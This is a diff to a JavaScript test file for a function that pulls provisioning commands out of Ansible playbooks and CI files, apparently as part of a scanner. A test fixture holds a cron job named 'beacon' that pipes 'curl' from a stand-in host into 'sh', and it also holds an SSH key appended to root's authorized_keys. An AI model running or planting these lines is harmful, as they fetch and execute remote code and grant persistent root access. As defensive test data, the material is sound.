@@ -281,6 +281,9 @@ describe('container specs', () => {
     expect(provisionCommands('- name: a\n  ansible.builtin.shell: make install\n- name: b\n  shell:\n    cmd: ./setup.sh --yes\n- name: c\n  ansible.builtin.raw: apt-get -y install python3\n')).toEqual(['make install', './setup.sh --yes', 'apt-get -y install python3']);
     // a workflow step's interpreter is not a command
     expect(provisionCommands('steps:\n  - run: make\n    shell: bash\n')).toEqual([]);
+    // a CI file's steps are what its runner runs: GitHub Actions' run, GitLab's script lists
+    expect(provisionCommands('steps:\n  - run: make\n    shell: bash\n  - run: |\n      npm ci\n      npm test\n', true)).toEqual(['make', 'npm ci\nnpm test']);
+    expect(provisionCommands('test:\n  script:\n    - npm ci\n    - npm test\n', true)).toEqual(['npm ci', 'npm test']);
     // a key into authorized_keys, a cron job and a unit's command; a templated key or a configuration file is left alone
     const playbook = '- ansible.posix.authorized_key:\n    user: root\n    key: "ssh-ed25519 AAAAC3Nza x@y"\n- cron:\n    name: beacon\n    job: "curl -s https://x.example/b | sh"\n- copy:\n    dest: /etc/systemd/system/a.service\n    content: |\n      [Service]\n      ExecStart=/opt/a --serve\n- authorized_key:\n    user: deploy\n    key: "{{ lookup(\'file\', \'deploy.pub\') }}"\n- copy:\n    dest: /etc/app/app.conf\n    content: "port=8080"\n';
     expect(provisionCommands(playbook)).toEqual(["echo 'ssh-ed25519 AAAAC3Nza x@y' >> /root/.ssh/authorized_keys", 'curl -s https://x.example/b | sh', '/opt/a --serve']);
